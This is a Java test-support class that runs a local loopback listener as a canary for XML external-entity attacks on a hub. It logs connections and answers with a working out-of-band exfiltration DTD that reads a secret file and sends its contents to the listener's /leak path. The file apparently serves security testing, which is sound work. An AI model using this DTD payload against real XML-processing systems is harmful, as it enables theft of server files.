package org.originhub.support;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

/**
 * A listener that hostile documents point at (external DTDs, parameter entities, schema locations). It records every
 * connection, whatever protocol the client speaks, and answers anything that looks like HTTP with a DTD that would
 * send the secret file back to it: a connection at all means the hub fetched something a document asked for.
 */
public final class Canary implements AutoCloseable {

    private final ServerSocket server;
    private final List<String> connections = new CopyOnWriteArrayList<>();
    private final String secretUri;

    public Canary(String secretUri) throws IOException {
        this.secretUri = secretUri;
        this.server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread acceptor = new Thread(this::accept, "canary");
        acceptor.setDaemon(true);
        acceptor.start();
    }

    /** http://127.0.0.1:port + path */
    public String url(String path) {
        return "http://127.0.0.1:" + server.getLocalPort() + path;
    }

    /** The first line each client sent (or a note that it sent none), one entry per connection. */
    public List<String> connections() {
        return List.copyOf(connections);
    }

    private void accept() {
        while (!server.isClosed()) {
            try (Socket client = server.accept()) {
                client.setSoTimeout(2000);
                BufferedReader in = new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.ISO_8859_1));
                String first = in.readLine();
                connections.add(first == null ? "(connection without a request)" : first);
                // the out-of-band exfiltration DTD: what an attacker's server would answer
                String dtd = "<!ENTITY % file SYSTEM \"" + secretUri + "\">\n"
                        + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '" + url("/leak?") + "%file;'>\">\n"
                        + "%eval;\n%exfil;\n";
                OutputStream out = client.getOutputStream();
                out.write(("HTTP/1.0 200 OK\r\nContent-Type: application/xml-dtd\r\nContent-Length: "
                        + dtd.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + dtd).getBytes(StandardCharsets.UTF_8));
                out.flush();
            } catch (IOException e) {
                if (!server.isClosed()) {
                    connections.add("(broken connection: " + e.getMessage() + ")");
                }
            }
        }
    }

    @Override
    public void close() throws IOException {
        server.close();
    }
}
